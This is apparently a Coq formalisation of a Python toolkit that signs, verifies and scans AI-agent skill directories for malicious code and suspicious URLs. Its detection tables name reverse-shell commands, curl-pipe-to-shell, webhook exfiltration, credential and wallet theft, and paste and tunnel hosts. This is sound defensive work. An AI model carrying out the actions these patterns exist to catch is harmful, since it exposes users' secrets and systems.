(** The body of [for skill_dir in skills]. *)
Definition verify_skill (m : manifest) (st : verify_state)
  (skill : string * node) : verify_state :=
  let '(name, skill_dir) := skill in
  match Dict.get name (manifest_skills m) with
  | None =>
      {| tampered := tampered st; unsigned := unsigned st ++ [name];
         clean := clean st; printed := printed st ++ [UNSIGNED name] |}
  | Some trusted =>
      let '(composite, files) := skill_hash skill_dir in
      if String.eqb composite (composite_hash trusted) then
        {| tampered := tampered st; unsigned := unsigned st;
           clean := clean st ++ [name];
           printed := printed st ++ [VERIFIED name] |}
      else
        let trusted_files :=
          match Signet.files trusted with Some d => d | None => ∅ end in
        {| tampered := tampered st ++ [name]; unsigned := unsigned st;
           clean := clean st;
           printed :=
             printed st ++ [TAMPERED name (changes trusted_files files)] |}
  end.

(** The body of "Check for removed skills". *)
Definition check_removed (found : list (string * node)) (st : verify_state)
  (name : string) : verify_state :=
  if negb (existsb (fun s => String.eqb (fst s) name) found)
     && negb (in_list name SELF_SKILL_DIRS)
  then {| tampered := tampered st ++ [name]; unsigned := unsigned st;
          clean := clean st; printed := printed st ++ [MISSING name] |}
  else st.

(** [skills = [s for s in skills if s.name == skill_name]], when
    [skill_name] is given and not empty. *)
Definition select_skill (skill_name : option string)
  (found : list (string * node)) : list (string * node) :=
  match skill_name with
  | Some n =>
      if truthy n then List.filter (fun s => String.eqb (fst s) n) found
      else found
  | None => found
  end.

Definition skill_name_given (skill_name : option string) : bool :=
  truthy_opt skill_name.

(** [cmd_verify(workspace, skill_name)]: the report lines and the exit
    code. *)
Definition cmd_verify (ws : workspace) (skill_name : option string)
  : result (list line * nat) :=
  match load_manifest ws with
  | None => Ok ([NO_MANIFEST], 1)
  | Some m =>
      if negb (manifest_truthy m) then Ok ([NO_MANIFEST], 1)
      else
        found ← find_skills ws;
        let found := select_skill skill_name found in
        let st0 := {| tampered := []; unsigned := []; clean := [];
                      printed := [] |} in
        let st1 := fold_left (verify_skill m) found st0 in
        let st2 :=
          fold_left (check_removed found) (Dict.keys (manifest_skills m)) st1 in
        Ok (printed st2,
            match tampered st2, unsigned st2 with
            | _ :: _, _ => 2
            | [], _ :: _ => 1
            | [], [] => 0
            end)
  end.

(** The record [cmd_sign] stores for a skill directory at time [now]. *)
Definition sign_record (skill_dir : node) (now : string) : skill_record :=
  let '(composite, files) := skill_hash skill_dir in
  {| composite_hash := composite;
     files := Some files;
     signed_at := now;
     file_count := size files |}.

(** The body of [for skill_dir in skills] in [cmd_sign]; [clock] is the
    sequence of readings of [datetime.now], [t] counts the readings made.
    [manifest["skills"]] raises [KeyError] when the key is absent. *)
Definition sign_skill (clock : nat -> string)
  (acc : result (manifest * nat * list line)) (skill : string * node)
  : result (manifest * nat * list line) :=
  '(m, t, out) ← acc;
  let '(name, skill_dir) := skill in
  let rec := sign_record skill_dir (clock t) in
  match skills m with
  | None => Raise (KeyError "skills")
  | Some d =>
      Ok ({| version := version m; created := created m;
             updated := updated m;
             skills := Some (Dict.set name rec d) |},
          S t,
          out ++ [SIGNED name (composite_hash rec) (file_count rec)])
  end.

(** [cmd_sign(workspace, skill_name)]: the workspace afterwards, the report
    lines and the exit code. *)
Definition cmd_sign (clock : nat -> string) (ws : workspace)
  (skill_name : option string) : result (workspace * list line * nat) :=
  found ← find_skills ws;
  let found' := select_skill skill_name found in
  if skill_name_given skill_name && bool_decide (found' = [])
  then Ok (ws, [SKILL_NOT_FOUND (default "" skill_name)], 1)
  else
    (* reading 0 of the clock is the banner's time stamp *)
    let '(m0, t0) :=
      match load_manifest ws with
      | Some m =>
          if manifest_truthy m then (m, 1)
          else ({| version := Some 1; created := Some (clock 1);
                   updated := None; skills := Some [] |}, 2)
      | None => ({| version := Some 1; created := Some (clock 1);
                    updated := None; skills := Some [] |}, 2)
      end in
    '(m, t, out) ← fold_left (sign_skill clock) found' (Ok (m0, t0, []));
    let m' := {| version := version m; created := created m;
                 updated := Some (clock t); skills := skills m |} in
    Ok (save_manifest ws m', out, 0).

(** The body of [for skill_dir in skills] in [cmd_status]: the counters
    [tampered] and [unsigned]. *)
Definition status_skill (m : manifest) (counts : nat * nat)
  (skill : string * node) : nat * nat :=
  let '(tampered, unsigned) := counts in
  let '(name, skill_dir) := skill in
  match Dict.get name (manifest_skills m) with
  | None => (tampered, unsigned + 1)
  | Some trusted =>
      let '(composite, _) := skill_hash skill_dir in
      if negb (String.eqb composite (composite_hash trusted))
      then (tampered + 1, unsigned)
      else (tampered, unsigned)
  end.

(** [cmd_status(workspace)]: the exit code of the quick check. *)
Definition cmd_status (ws : workspace) : result nat :=
  match load_manifest ws with
  | None => Ok 1
  | Some m =>
      if negb (manifest_truthy m) then Ok 1
      else
        found ← find_skills ws;
        let '(tampered, unsigned) :=
          fold_left (status_skill m) found (0, 0) in
        Ok (if (0 <? tampered)%nat then 2
            else if (0 <? unsigned)%nat then 1
            else 0)
  end.

End Signet.

(* ===================================================================== *)
(** ** Paths in a file tree                                               *)
(* ===================================================================== *)

(** Notions in which the behaviour of [skill_hash] is stated: what a
    relative path names in a tree, which paths run through a skipped
    directory, the order in which the walk visits paths, and trees in which
    no directory lists a name twice. *)
Module Tree.
Import Signet.

(** The file that the relative path [p] names under [n]: [Some content]
    for a file ([content] is [None] when it cannot be read), [None] when [p]
    names no file. *)
Fixpoint file_at (n : node) (p : list string) : option (option string) :=
  match p with
  | [] => None
  | name :: p' =>
      match n with
      | File _ => None
      | Dir entries =>
          match lookup_entry name entries, p' with
          | Some (File content), [] => Some content
          | Some child, _ :: _ => file_at child p'
          | _, _ => None
          end
      end
  end.

(** Some directory on the way to [p] is in [SKIP_DIRS]. *)
Definition skipped (p : list string) : bool :=
  existsb (fun d => in_list d SKIP_DIRS) (removelast p).

(** The order of the walk on relative paths: in a directory, its files by
    name, then what lies in its subdirectories, by name of the
    subdirectory. *)
Fixpoint walk_lt (p q : list string) : Prop :=
  match p with
  | [] => False
  | d :: p' =>
      match q with
      | [] => False
      | e :: q' =>
          match p', q' with
          | [], [] => str_lt d e
          | [], _ :: _ => True
          | _ :: _, [] => False
          | _ :: _, _ :: _ => str_lt d e \/ (d = e /\ walk_lt p' q')
          end
      end
  end.

(** No directory of the tree lists a name twice. *)
Fixpoint unique_names (n : node) : Prop :=
  match n with
  | File _ => True
  | Dir entries =>
      List.NoDup (map fst entries)
      /\ (fix all (es : list (string * node)) : Prop :=
            match es with
            | [] => True
            | (_, child) :: es' => unique_names child /\ all es'
            end) entries
  end.

End Tree.

(* ===================================================================== *)
(** ** scan_skill.py: the pattern scanner                                 *)
(* ===================================================================== *)

(** The double quote, for the patterns and tests that contain one. *)
Definition dq : string := String (ascii_of_nat 34) EmptyString.

Module Scanner.

(** *** Pattern definitions

    Each table is a [dict] from the pattern text to its description, listed
    in the order of the source, which is the order of iteration. *)

(** Credential access, reverse shells, curl-pipe-bash, webhooks, known
    hosts, persistence, exfiltration, command injection, file system
    attacks, privilege escalation, wallets, obfuscation, archives. *)
Definition CRITICAL_PATTERNS : list (string * string) :=
  [ ("\.ssh[/\\]", "SSH key access");
    ("\.aws[/\\]", "AWS credentials access");
    ("\.openclaw[/\\]credentials", "OpenClaw credentials access");
    ("(open|read|load|write).*\.clawdbot", "ClawdBot config file access");
    ("\.clawdbot.*\.env", "ClawdBot .env access (ClawHavoc target!)");
    ("(open|read|load).*\.env", "Environment file read");
    ("dotenv\.load|load_dotenv", "Dotenv loading");
    ("private[_-]?key|privatekey", "Private key reference");
    ("nc\s+.*-e", "Netcat reverse shell");
    ("bash\s+-i\s+.*\/dev\/tcp", "Bash reverse shell");
    ("\/bin\/sh\s*\|\s*nc", "Shell pipe to netcat");
    ("python.*socket.*subprocess", "Python reverse shell pattern");
    ("socket\..*connect.*shell", "Socket-based shell");
    ("pty\.spawn", "PTY spawn (shell escape)");
    ("curl\s+.*\|\s*(ba)?sh", "Curl pipe to shell (DANGEROUS!)");
    ("wget\s+.*\|\s*(ba)?sh", "Wget pipe to shell (DANGEROUS!)");
    ("curl\s+.*>\s*.*\.sh\s*&&", "Download and execute script");
    ("wget\s+.*&&\s*chmod\s*\+x", "Download and make executable");
    ("discord\.com\/api\/webhooks", "Discord webhook exfiltration");
    ("hooks\.slack\.com", "Slack webhook exfiltration");
    ("glot\.io", "glot.io (known malware host)");
    ("pastebin\.com\/raw", "Pastebin raw (code hosting)");
    ("paste\.ee|ghostbin|hastebin", "Paste service (code hosting)");
    ("raw\.githubusercontent\.com.*\.sh", "GitHub raw shell script");
    ("crontab\s+-", "Crontab modification");
    ("\/etc\/cron", "System cron access");
    ("systemctl\s+(enable|start)", "Systemd service manipulation");
    ("LaunchAgents|LaunchDaemons", "macOS persistence");
    ("\.bashrc|\.zshrc|\.profile", "Shell profile modification");
    ("requests\.(post|put|patch)\s*\([^)]*\b(key|secret|token|password|cred)",
       "Credential exfiltration attempt");
    ("urllib.*urlopen.*POST", "URL POST request");
    ("curl\s+.*-[dX]\s*(POST|PUT)", "Curl POST/PUT command");
    ("wget\s+.*--post", "Wget POST command");
    ("ngrok|localtunnel|serveo", "Tunnel service usage");
    ("eval\s*\(", "eval() usage");
    ("exec\s*\(", "exec() usage");
    ("subprocess.*shell\s*=\s*True", "Shell injection risk");
    ("os\.system\s*\(", "os.system() command execution");
    ("os\.popen\s*\(", "os.popen() command execution");
    (("open\s*\([^)]*[" ++ dq ++ "\']\/etc\/")%string, "/etc/ file access");
    (("open\s*\([^)]*[" ++ dq ++ "\']\/usr\/")%string, "/usr/ file access");
    (("open\s*\([^)]*[" ++ dq ++ "\']\/root\/")%string, "/root/ file access");
    ("os\.symlink", "Symlink creation");
    (("shutil\.rmtree\s*\([^)]*[" ++ dq ++ "\']\/")%string,
       "Root directory deletion");
    ("rm\s+-rf?\s+\/", "Dangerous rm command");
    ("chmod\s+777", "World-writable permissions");
    ("chmod\s+[0-7]*[67][0-7]{2}", "Dangerous permission change");
    ("setuid|setgid", "Setuid/setgid usage");
    ("chown\s+root", "Chown to root");
    ("wallet.*\.dat", "Wallet file access");
    ("seed\s*phrase|mnemonic", "Seed phrase reference");
    ("keystore", "Keystore access");
    ("metamask|phantom|ledger", "Wallet software reference");
    ("base64\.(b64)?decode.*exec", "Base64 decoded execution");
    ("base64\s+-d\s*\|", "Base64 decode pipe (obfuscation)");
    ("(\\x[0-9a-fA-F]{2}){10,}", "Hex-encoded string (long)");
    ("zlib\.decompress.*exec", "Compressed code execution");
    ("marshal\.loads", "Marshal deserialization");
    ("pickle\.loads?\s*\(", "Pickle deserialization (RCE risk)");
    ("unzip\s+.*-P", "Password-protected ZIP extraction");
    ("7z\s+.*-p", "7zip with password") ].

(** Raw sockets, dynamic compilation, sensitive system paths, deletion,
    e-mail, screen and keyboard capture, low-level system calls. *)
Definition WARNING_PATTERNS : list (string * string) :=
  [ ("socket\.socket", "Raw socket usage (unusual)");
    ("compile\s*\(.*exec", "Dynamic code compilation");
    ("globals\s*\(\)\s*\[", "Globals manipulation");
    ("\/var\/log", "/var/log access");
    ("\/var\/run", "/var/run access");
    ("shutil\.rmtree", "Directory tree deletion");
    ("os\.remove|os\.unlink", "File deletion");
    ("smtplib|send_mail|sendmail", "Email sending capability");
    ("pyscreenshot|pyautogui|pynput", "Screen/keyboard capture library");
    ("\bkeyboard\b(?!Interrupt)", "Keyboard capture library");
    ("ImageGrab|take_screenshot|capture_screen", "Screenshot capability");
    ("ctypes.*kernel|ctypes.*user32", "Low-level system calls");
    ("win32api|win32con", "Windows API access") ].

Definition INFO_PATTERNS : list (string * string) := [].

(** Patterns that are always safe: comments, docstrings, standard API
    calls, local addresses. *)
Definition WHITELIST_PATTERNS : list string :=
  [ "# ";
    (dq ++ dq ++ dq)%string;
    "'''";
    "https://api\.";
    "localhost|127\.0\.0\.1" ].

(** *** Findings and results *)

Inductive level : Type := CRITICAL | WARNING | INFO.

#[global] Instance level_eq_dec : EqDecision level.
Proof. solve_decision. Defined.

Record Finding : Type := {
  f_level : level;
  f_file : string;
  f_line : nat;
  f_pattern : string;
  f_description : string;
  f_context : string;
}.

Record ScanResult : Type := {
  skill_name : string;
  files_scanned : nat;
  total_lines : nat;
  findings : list Finding;
}.

(** [sum(1 for f in self.findings if f.level == lv)]. *)
Definition count_level (lv : level) (fs : list Finding) : nat :=
  List.length (List.filter (fun f => bool_decide (f_level f = lv)) fs).

Definition critical_count (r : ScanResult) : nat :=
  count_level CRITICAL (findings r).
Definition warning_count (r : ScanResult) : nat :=
  count_level WARNING (findings r).
Definition info_count (r : ScanResult) : nat :=
  count_level INFO (findings r).

Definition risk_score (r : ScanResult) : nat :=
  let score := 0 in
  let score := score + critical_count r * 30 in
  let score := score + Nat.min (warning_count r) 10 * 3 in
  let score := score + Nat.min (info_count r) 5 * 1 in
  Nat.min 100 score.

Inductive verdict : Type := BLOCKED | DANGER | CAUTION | SAFE.

(** The cascade of [risk_level], on the score it has read. *)
Definition level_of_score (score : nat) : verdict :=
  if (81 <=? score)%nat then BLOCKED
  else if (51 <=? score)%nat then DANGER
  else if (21 <=? score)%nat then CAUTION
  else SAFE.

Definition risk_level (r : ScanResult) : verdict :=
  let score := risk_score r in
  level_of_score score.

(** [ScanResult(skill_name=skill_name)]. *)
Definition new_result (name : string) : ScanResult :=
  {| skill_name := name; files_scanned := 0; total_lines := 0;
     findings := [] |}.

(** *** [is_whitelisted]: does the line match a whitelist pattern? *)
Definition is_whitelisted (line : string) : bool :=
  existsb (fun pattern => Re.re_search pattern true line) WHITELIST_PATTERNS.

(** [result.findings.append(f)]. *)
Definition append (r : ScanResult) (f : Finding) : ScanResult :=
  {| skill_name := skill_name r; files_scanned := files_scanned r;
     total_lines := total_lines r; findings := findings r ++ [f] |}.

Definition context_of (n : nat) (line : string) : string :=
  PyStr.take n (PyStr.strip line).

(** The first pattern of [INFO_PATTERNS] that matches, if any: the loop
    with its [break]. *)
Definition first_info (line : string) : option (string * string) :=
  List.find (fun p => Re.re_search (fst p) true line) INFO_PATTERNS.

(** The body of [for line_num, line in enumerate(lines, 1)]. *)
Definition scan_line (rel_path : string) (result : ScanResult)
  (numbered : nat * string) : ScanResult :=
  let '(line_num, line) := numbered in
  (* Skip whitelisted lines *)
  if is_whitelisted line then result
  else
    let is_doc_file := PyStr.endswith_any rel_path [".md"; ".rst"; ".txt"] in
    (* Check for sudo in non-doc files only *)
    let result :=
      if negb is_doc_file && Re.re_search "\bsudo\b" false line
      then append result
             {| f_level := CRITICAL; f_file := rel_path; f_line := line_num;
                f_pattern := "sudo";
                f_description := "Sudo usage in script";
                f_context := context_of 100 line |}
      else result in
    (* Special check: shell substitution *)
    let result :=
      if PyStr.contains "$(" line && negb (PyStr.contains "re." line)
         && negb (PyStr.contains "r'" line)
         && negb (PyStr.contains ("r" ++ dq)%string line)
      then
        if negb (existsb (fun x => PyStr.contains x line)
                   ["regex"; "pattern"; "findall"])
        then
          let is_shell_file := PyStr.endswith_any rel_path [".sh"; ".bash"] in
          if negb is_shell_file then
            append result
              {| f_level := CRITICAL; f_file := rel_path;
                 f_line := line_num; f_pattern := "$(...)";
                 f_description :=
                   "Shell command substitution in non-shell file";
                 f_context := context_of 100 line |}
          else result
        else result
      else result in
    (* Check critical patterns (skip docs for some patterns) *)
    let result :=
      fold_left
        (fun result p =>
           let '(pattern, desc) := p in
           if Re.re_search pattern true line then
             if is_doc_file
                && existsb (fun x => PyStr.contains x pattern)
                     ["sudo"; "chmod"; "chown"]
             then result
             else append result
                    {| f_level := CRITICAL; f_file := rel_path;
                       f_line := line_num; f_pattern := PyStr.take 40 pattern;
                       f_description := desc;
                       f_context := context_of 100 line |}
           else result)
        CRITICAL_PATTERNS result in
    (* Check warning patterns (skip in documentation files entirely) *)
    let result :=
      if negb is_doc_file then
        fold_left
          (fun result p =>
             let '(pattern, desc) := p in
             if Re.re_search pattern true line then
               append result
                 {| f_level := WARNING; f_file := rel_path;
                    f_line := line_num; f_pattern := PyStr.take 40 pattern;
                    f_description := desc;
                    f_context := context_of 100 line |}
             else result)
          WARNING_PATTERNS result
      else result in
    (* Check info patterns (limit to reduce noise) *)
    if (info_count result <? 20)%nat then
      match first_info line with
      | Some (pattern, desc) =>
          append result
            {| f_level := INFO; f_file := rel_path; f_line := line_num;
               f_pattern := PyStr.take 40 pattern; f_description := desc;
               f_context := context_of 80 line |}
      | None => result
      end
    else result.

(** [enumerate(lines, 1)]. *)
Definition enumerate1 {A} (l : list A) : list (nat * A) :=
  combine (seq 1 (List.length l)) l.

(** [scan_file(filepath, result)]: [rel_path] is [str(filepath)], [content]
    what [read_text] returns, [None] when it raises. *)
Definition scan_file (rel_path : string) (content : option string)
  (result : ScanResult) : ScanResult :=
  match content with
  | None => result
  | Some content =>
      let lines := PyStr.split_lines content in
      let result :=
        {| skill_name := skill_name result;
           files_scanned := files_scanned result;
           total_lines := total_lines result + List.length lines;
           findings := findings result |} in
      fold_left (scan_line rel_path) (enumerate1 lines) result
  end.

End Scanner.

(* ===================================================================== *)
(** ** egress.py: URLs in workspace files                                 *)
(* ===================================================================== *)

Module Egress.

(** *** URL and network patterns *)

(** [URL_PATTERN], compiled with [re.IGNORECASE]. *)
Definition URL_PATTERN : string :=
  ("https?://[^\s" ++ dq ++ "\'<>\]\)}{,`]+")%string.

(** Suspicious URL indicators: name, pattern, and whether the pattern is
    compiled with [re.IGNORECASE]. *)
Definition EXFIL_PATTERNS : list (string * string * bool) :=
  [ ("Base64 in URL",
     "https?://[^\s]*[?&][^=]*=(?:[A-Za-z0-9+/]{40,}={0,2})",
     false);
    ("Hex payload in URL",
     "https?://[^\s]*[?&][^=]*=(?:[0-9a-f]{32,})",
     true);
    ("IP address endpoint",
     "https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}",
     false);
    ("Webhook/callback URL",
     "https?://[^\s]*/(?:webhook|callback|hook|notify|ping|beacon)[^\s]*",
     true);
    ("Pastebin/sharing service",
     "https?://(?:pastebin\.com|hastebin\.com|paste\.ee|dpaste\.org|ix\.io|sprunge\.us|0x0\.st|transfer\.sh|file\.io)[^\s]*",
     true);
    ("Request catcher",
     "https?://(?:[^\s]*\.ngrok\.|requestbin|pipedream|beeceptor|hookbin|requestcatcher)[^\s]*",
     true);
    ("Dynamic DNS",
     "https?://[^\s]*\.(?:duckdns\.org|no-ip\.com|dynu\.com|freedns)[^\s]*",
     true);
    ("URL shortener",
     "https?://(?:bit\.ly|tinyurl|t\.co|goo\.gl|is\.gd|v\.gd|rb\.gy|shorturl)[^\s]*",
     true) ].

(** Known safe domains (won't flag these). *)
Definition SAFE_DOMAINS : list string :=
  [ "github.com"; "raw.githubusercontent.com";
    "docs.anthropic.com"; "api.anthropic.com";
    "openclaw.com"; "clawhub.ai"; "clawhub.com";
    "python.org"; "pypi.org";
    "nodejs.org"; "npmjs.com";
    "stackoverflow.com"; "developer.mozilla.org";
    "wikipedia.org"; "example.com" ].

(** *** [urllib.parse.urlparse(url).hostname]

    The scheme is split off at the first colon when what precedes it is a
    letter followed by letters, digits, [+], [-] or [.]; the network
    location runs from the two slashes to the first of [/ ? #]; a bracket
    without its partner raises [ValueError]; the host name is what follows
    the last [@], up to the first colon (or between the brackets), in lower
    case, and [None] when it is empty. *)
Module Url.

(** [l.partition(c)], as (before, found, after). *)
Fixpoint partition (c : ascii) (l : list ascii)
  : list ascii * bool * list ascii :=
  match l with
  | [] => ([], false, [])
  | x :: l' =>
      if Ascii.eqb x c then ([], true, l')
      else let '(b, f, a) := partition c l' in (x :: b, f, a)
  end.

(** The last component of [l.rpartition(c)]. *)
Definition after_last (c : ascii) (l : list ascii) : list ascii :=
  let '(b, f, _) := partition c (rev l) in
  if f then rev b else l.

Definition is_alpha (c : ascii) : bool := Re.is_upper c || Re.is_lower c.

Definition scheme_char (c : ascii) : bool :=
  is_alpha c || Re.is_digit c
  || Ascii.eqb c "+" || Ascii.eqb c "-" || Ascii.eqb c ".".

(** The URL without its scheme. *)
Definition strip_scheme (url : list ascii) : list ascii :=
  let '(before, found, rest) := partition ":" url in
  match before with
  | c :: _ =>
      if found && is_alpha c && forallb scheme_char before
      then rest else url
  | [] => url
  end.

Fixpoint take_netloc (l : list ascii) : list ascii :=
  match l with
  | [] => []
  | c :: l' =>
      if Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#"
      then [] else c :: take_netloc l'
  end.

Definition netloc (url : list ascii) : result (list ascii) :=
  match strip_scheme url with
  | "/"%char :: "/"%char :: rest =>
      let n := take_netloc rest in
      let has c := existsb (Ascii.eqb c) n in
      if xorb (has "["%char) (has "]"%char)
      then Raise (ValueError "Invalid IPv6 URL")
      else Ok n
  | _ => Ok []
  end.

Definition hostinfo (n : list ascii) : list ascii :=
  let h := after_last "@" n in
  let '(_, have_open_br, bracketed) := partition "[" h in
  if have_open_br then fst (fst (partition "]" bracketed))
  else fst (fst (partition ":" h)).

Definition hostname (url : string) : result (option string) :=
  n ← netloc (PyStr.chars url);
  match hostinfo n with
  | [] => Ok None
  | h =>
      let '(host, percent, zone) := partition "%" h in
      Ok (Some (PyStr.of_chars
                  (map PyStr.lower_char host
                   ++ (if percent then ["%"%char] else []) ++ zone)))
  end.

End Url.

(** *** Helpers *)

(** [in_code_block(lines, line_idx)]: is the number of fence lines before
    index [line_idx] odd? *)
Definition in_code_block (lines : list string) (line_idx : nat) : bool :=
  let fence_count :=
    fold_left
      (fun fence_count line =>
         if PyStr.startswith (PyStr.strip line) "```"
         then fence_count + 1 else fence_count)
      (firstn line_idx lines) 0 in
  Nat.eqb (fence_count mod 2) 1.

(** [parsed.hostname or ""]. *)
Definition domain_of (h : option string) : string := default "" h.

Definition is_safe_url (url : string) : bool :=
  match Url.hostname url with
  | Ok h =>
      let domain := domain_of h in
      existsb (fun safe => String.eqb domain safe
                           || PyStr.endswith domain ("." ++ safe)%string)
              SAFE_DOMAINS
  | Raise _ => false
  end.

Inductive risk : Type := CRITICAL | WARNING | INFO | SAFE | HIGH.

#[global] Instance risk_eq_dec : EqDecision risk.
Proof. solve_decision. Defined.

Definition suspicious_tlds : list string :=
  [ ".xyz"; ".tk"; ".ml"; ".ga"; ".cf"; ".gq"; ".top"; ".buzz" ].

(** [classify_url(url)]: classify a URL by risk level. *)
Definition classify_url (url : string) : risk * string :=
  match List.find (fun p => Re.re_search (snd (fst p)) (snd p) url)
                  EXFIL_PATTERNS with
  | Some (name, _, _) => (CRITICAL, name)
  | None =>
      match Url.hostname url with
      | Raise _ => (WARNING, "Unparseable URL")
      | Ok h =>
          let domain := domain_of h in
          if is_safe_url url then (SAFE, "Known safe domain")
          else
            (* Check for suspicious TLDs *)
            match List.find (fun tld => PyStr.endswith domain tld)
                            suspicious_tlds with
            | Some tld => (WARNING, ("Suspicious TLD (" ++ tld ++ ")")%string)
            | None => (INFO, "External endpoint")
            end
      end
  end.

(** *** Scanning *)

Record UrlFinding : Type := {
  u_file : string;
  u_line : nat;
  u_url : string;
  u_risk : risk;
  u_reason : string;
}.

(** [Path(name).suffix]: from the last dot of the name, unless that dot is
    its first or its last character. *)
Definition suffix (name : string) : string :=
  let '(ext, found, stem) := Url.partition "." (rev (PyStr.chars name)) in
  match found, ext, stem with
  | true, _ :: _, _ :: _ => PyStr.of_chars ("."%char :: rev ext)
  | _, _, _ => ""
  end.

(** The body of [for match in URL_PATTERN.finditer(line)]. *)
Definition url_finding (rel : string) (line_idx : nat) (m : string)
  : list UrlFinding :=
  let url := PyStr.rstrip_set ".,;:)" m in
  let '(risk, reason) := classify_url url in
  if bool_decide (risk = SAFE) then []
  else [ {| u_file := rel; u_line := line_idx; u_url := PyStr.take 100 url;
            u_risk := risk; u_reason := reason |} ].

(** The body of [for line_idx, line in enumerate(lines, 1)]. *)
Definition scan_line_urls (rel : string) (is_md : bool) (lines : list string)
  (numbered : nat * string) : list UrlFinding :=
  let '(line_idx, line) := numbered in
  (* In markdown, skip URLs inside code blocks *)
  if is_md && in_code_block lines (line_idx - 1) then []
  else flat_map (url_finding rel line_idx)
                (Re.re_finditer URL_PATTERN true line).

(** [scan_file_urls(filepath, workspace)]: [parts] are the parts of
    [filepath.relative_to(workspace)], [content] what [read_text] returns,
    [None] when it raises [OSError]. *)
Definition scan_file_urls (parts : list string) (content : option string)
  : list UrlFinding :=
  let rel := Signet.path_str parts in
  match content with
  | None => []
  | Some content =>
      let lines := PyStr.split_lines content in
      let is_md :=
        existsb (String.eqb (suffix (default "" (last parts))))
                [".md"; ".markdown"] in
      flat_map (scan_line_urls rel is_md lines) (Scanner.enumerate1 lines)
  end.

(** [scan_file_network_code(filepath, workspace)]: network function calls
    in code files.  Comment lines are skipped. *)
Definition NETWORK_CODE_PATTERNS : list (string * string) :=
  [ ("urllib.request", "\burllib\.request\.urlopen\b");
    ("urllib.request.Request", "\burllib\.request\.Request\b");
    ("requests.get/post", "\brequests\.(?:get|post|put|patch|delete|head)\b");
    ("httpx call",
     "\bhttpx\.(?:get|post|put|patch|delete|head|Client|AsyncClient)\b");
    ("aiohttp session", "\baiohttp\.ClientSession\b");
    ("socket connection", "\bsocket\.(?:socket|create_connection|connect)\b");
    ("http.client", "\bhttp\.client\.HTTP(?:S)?Connection\b");
    ("fetch/XMLHttpRequest", "\bfetch\s*\(|XMLHttpRequest\b");
    ("curl command", "\bcurl\s+-");
    ("wget command", "\bwget\s+") ].

Definition CODE_SUFFIXES : list string := [".py"; ".js"; ".ts"; ".sh"; ".bash"].

(** The body of [for line_idx, line in enumerate(lines, 1)]. *)
Definition scan_line_network (rel : string) (numbered : nat * string)
  : list UrlFinding :=
  let '(line_idx, line) := numbered in
  let stripped := PyStr.strip line in
  if PyStr.startswith stripped "#" || PyStr.startswith stripped "//" then []
  else
    flat_map
      (fun p =>
         let '(name, pattern) := p in
         if Re.re_search pattern false line
         then [ {| u_file := rel; u_line := line_idx; u_url := "";
                   u_risk := HIGH;
                   u_reason := ("Network call: " ++ name)%string |} ]
         else [])
      NETWORK_CODE_PATTERNS.

Definition scan_file_network_code (parts : list string)
  (content : option string) : list UrlFinding :=
  let rel := Signet.path_str parts in
  if negb (existsb (String.eqb (suffix (default "" (last parts))))
             CODE_SUFFIXES)
  then []
  else
    match content with
    | None => []
    | Some content =>
        flat_map (scan_line_network rel)
                 (Scanner.enumerate1 (PyStr.split_lines content))
    end.

(** *** [cmd_scan]: after the files have been scanned *)

(** The key of the deduplication: file, line and reason. *)
Definition key (f : UrlFinding) : string * nat * string :=
  (u_file f, u_line f, u_reason f).

(** "Deduplicate by file+line+reason": the loop with its [seen] set;
    the first finding with a key is kept. *)
Fixpoint dedupe_from (seen : list (string * nat * string))
  (all_findings : list UrlFinding) : list UrlFinding :=
  match all_findings with
  | [] => []
  | f :: rest =>
      if bool_decide (key f ∈ seen) then dedupe_from seen rest
      else f :: dedupe_from (key f :: seen) rest
  end.

Definition dedupe (all_findings : list UrlFinding) : list UrlFinding :=
  dedupe_from [] all_findings.

End Egress.

(* ===================================================================== *)
(** * Properties                                                          *)
(* ===================================================================== *)

(** ** Test vectors and sanity checks *)

Example sha256_empty :
  Sha256.hexdigest ""
  = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".
Proof. vm_compute. reflexivity. Qed.

Example sha256_abc :
  Sha256.hexdigest "abc"
  = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad".
Proof. vm_compute. reflexivity. Qed.

Example sha256_two_blocks :
  Sha256.hexdigest "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
  = "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1".
Proof. vm_compute. reflexivity. Qed.

Example sorted_ex :
  sorted ["b"; "a/b"; "a.txt"; "B"; ""; "a"] = [""; "B"; "a"; "a.txt"; "a/b"; "b"].
Proof. vm_compute. reflexivity. Qed.


Example sha256_round_constants :
  Sha256.K = map Sha256.frac_cube_root Sha256.primes.
Proof. vm_compute. reflexivity. Qed.

Example sha256_initial_value :
  Sha256.H0 = map Sha256.frac_sqrt (firstn 8 Sha256.primes).
Proof. vm_compute. reflexivity. Qed.

(* ===================================================================== *)
(** ** The order on strings                                               *)
(* ===================================================================== *)

Module StrOrder.

Lemma compare_OT a b : String.compare a b = String_as_OT.compare a b.
Proof. reflexivity. Qed.

Lemma lt_iff a b : str_lt a b <-> String_as_OT.lt a b.
Proof.
  unfold str_lt, String.ltb, String_as_OT.lt. rewrite compare_OT.
  destruct (String_as_OT.compare a b); split; congruence.
Qed.

Lemma lt_irrefl a : ~ str_lt a a.
Proof.
  rewrite lt_iff. apply (StrictOrder_Irreflexive (R := String_as_OT.lt)).
Qed.

Lemma lt_trans a b c : str_lt a b -> str_lt b c -> str_lt a c.
Proof.
  rewrite !lt_iff. apply (StrictOrder_Transitive (R := String_as_OT.lt)).
Qed.

Lemma lt_asym a b : str_lt a b -> str_lt b a -> False.
Proof. intros H1 H2. exact (lt_irrefl a (lt_trans _ _ _ H1 H2)). Qed.

Lemma le_iff a b : str_le a b <-> str_lt a b \/ a = b.
Proof.
  unfold str_le, str_lt, String.leb, String.ltb.
  destruct (String.compare a b) eqn:E.
  - apply String.compare_eq_iff in E. subst. tauto.
  - tauto.
  - split; [discriminate|]. intros [H | ->]; [discriminate|].
    assert (R : String.compare b b = Eq).
    { rewrite compare_OT.
      destruct (String_as_OT.compare_spec b b) as [_|H|H];
        try reflexivity; exfalso;
        apply (StrictOrder_Irreflexive (R := String_as_OT.lt) b H). }
    congruence.
Qed.

#[global] Instance le_trans : Transitive str_le.
Proof.
  intros a b c. rewrite !le_iff.
  intros [H1 | ->] [H2 | ->]; eauto using lt_trans.
Qed.

#[global] Instance le_total : Total str_le.
Proof. intros a b. unfold str_le. apply String.leb_total. Qed.

